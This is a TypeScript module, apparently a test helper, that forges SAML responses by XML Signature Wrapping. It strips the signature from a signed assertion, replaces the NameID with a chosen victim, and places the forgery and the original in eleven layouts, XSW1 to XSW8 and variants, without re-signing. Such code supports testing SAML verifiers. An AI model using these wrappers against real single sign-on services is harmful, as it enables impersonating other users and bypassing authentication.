/** A signed response, taken apart as an attacker would. */
interface Parts {
  xml: string;
  assertion: string;
  signature: string;
  /** The assertion without its signature. */
  bare: string;
  /** The same, but with another person's name and its own id. */
  evil: string;
}

const decode = (base64: string) => Buffer.from(base64, "base64").toString("utf8");
const encode = (xml: string) => Buffer.from(xml, "utf8").toString("base64");

/** Changes a response's XML, signatures included, without signing it again. */
export function tamper(response: string, change: (xml: string) => string): string {
  const before = decode(response);
  const after = change(before);
  if (after === before) throw new Error("the response wasn't changed");
  return encode(after);
}

function partsOf(xml: string, victim: string): Parts {
  const assertion = match(xml, /<saml:Assertion .*<\/saml:Assertion>/s);
  const signature = match(assertion, /<(ds:)?Signature .*<\/(ds:)?Signature>/s);
  const bare = assertion.replace(signature, "");
  const evil = bare
    .replace(/ID="[^"]*"/, 'ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`);
  return { xml, assertion, signature, bare, evil };
}

function match(text: string, form: RegExp): string {
  const [found] = form.exec(text) ?? [];
  if (found === undefined) throw new Error(`nothing in the response is ${form}`);
  return found;
}

const intoSignature = (signature: string, inner: string) =>
  signature.replace(
    /<\/(ds:)?Signature>$/,
    (end) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inner}</ds:Object>${end}`,
  );

const intoAssertion = (assertion: string, inner: string) =>
  assertion.replace("</saml:Issuer>", `</saml:Issuer>${inner}`);

type Wrap = (parts: Parts) => string;

/** From "On Breaking SAML" (2012): where the signed original and the forgery go. */
const assertionWraps: Record<string, Wrap> = {
  "XSW3: the forgery before the original": ({ xml, assertion, evil }) =>
    xml.replace(assertion, evil + assertion),
  "XSW3 turned round: the forgery after the original": ({ xml, assertion, evil }) =>
    xml.replace(assertion, assertion + evil),
  "XSW4: the original inside the forgery": ({ xml, assertion, evil }) =>
    xml.replace(assertion, evil.replace("</saml:Assertion>", `${assertion}</saml:Assertion>`)),
  "XSW5: the signature on the forgery, the original at the end": (parts) =>
    parts.xml.replace(parts.assertion, intoAssertion(parts.evil, parts.signature) + parts.bare),
  "XSW6: the original inside the signature that is on the forgery": (parts) =>
    parts.xml.replace(
      parts.assertion,
      intoAssertion(parts.evil, intoSignature(parts.signature, parts.bare)),
    ),
  "XSW7: the forgery among extensions": ({ xml, assertion, evil }) =>
    xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  "XSW8: the forgery inside the original's signature": (parts) =>
    parts.xml.replace(
      parts.assertion,
      intoAssertion(parts.bare, intoSignature(parts.signature, parts.evil)),
    ),
  "the forgery under the original's id": ({ xml, assertion, evil, bare }) =>
    xml.replace(assertion, evil.replace("_evil", match(bare, /(?<=ID=")[^"]*/)) + assertion),
  "the forgery with the original's signature as it is": (parts) =>
    parts.xml.replace(
      parts.assertion,
      intoAssertion(parts.evil, parts.signature).replace(
        "_evil",
        match(parts.bare, /(?<=ID=")[^"]*/),
      ),
    ),
};

/** Wraps the forgery in another response, with the original where `place` puts it. */
const around =
  (place: (signature: string, original: string) => string): Wrap =>
  ({ xml, assertion, evil }) => {
    const signature = match(xml.replace(assertion, ""), /<(ds:)?Signature .*<\/(ds:)?Signature>/s);
    return xml
      .replace(assertion, evil)
      .replace(/ID="[^"]*"/, 'ID="_forged"')
      .replace(signature, place(signature, xml.replace(signature, "")));
  };

const responseWraps: Record<string, Wrap> = {
  "XSW1: the original response inside the signature of a forged one": around(intoSignature),
  "XSW2: the original response before the signature of a forged one": around(
    (signature, original) => original + signature,
  ),
};

export const wrapsOfAssertions = Object.entries(assertionWraps);
export const wrapsOfResponses = Object.entries(responseWraps);

/** Wraps a signed response so that it appears to name somebody else. */
export const wrapped = (response: string, victim: string, wrap: Wrap): string =>
  tamper(response, (xml) => wrap(partsOf(xml, victim)));
